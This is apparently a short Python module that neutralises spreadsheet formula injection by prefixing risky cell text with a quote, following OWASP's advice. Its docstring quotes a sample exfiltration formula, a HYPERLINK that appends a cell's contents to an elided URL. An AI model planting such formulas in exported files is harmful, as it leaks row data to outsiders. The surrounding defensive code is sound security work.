"""What a cell of a downloaded file may hold: text that a spreadsheet reads as text.

Excel, LibreOffice and Google Sheets run a cell that starts with `=`, `+`, `-` or `@` as a
formula, and a leading tab or carriage return hides such a start; East Asian input turns the
full-width forms into the same characters. A concern titled `=HYPERLINK("http://…"&A2,"x")` would
otherwise become a live link that sends the row to anyone who clicks it. OWASP's defence: put a
single quote in front, which every spreadsheet shows as the start of text. Numbers and dates are
not text and never pass through here, so they stay numbers and dates.
"""

from __future__ import annotations

# = + - @ and their full-width forms (U+FF1D, U+FF0B, U+FF0D, U+FF20).
FORMULA_STARTS = frozenset("=+-@\uff1d\uff0b\uff0d\uff20")
HIDING_STARTS = frozenset("\t\r")


def neutralise(text: str) -> str:
    """`text` with a single quote in front if a spreadsheet could read it as a formula.

    Leading spaces and line breaks are looked through: some spreadsheets trim them before
    deciding what a cell is.
    """
    if text[:1] in HIDING_STARTS or text.lstrip()[:1] in FORMULA_STARTS:
        return f"'{text}"
    return text
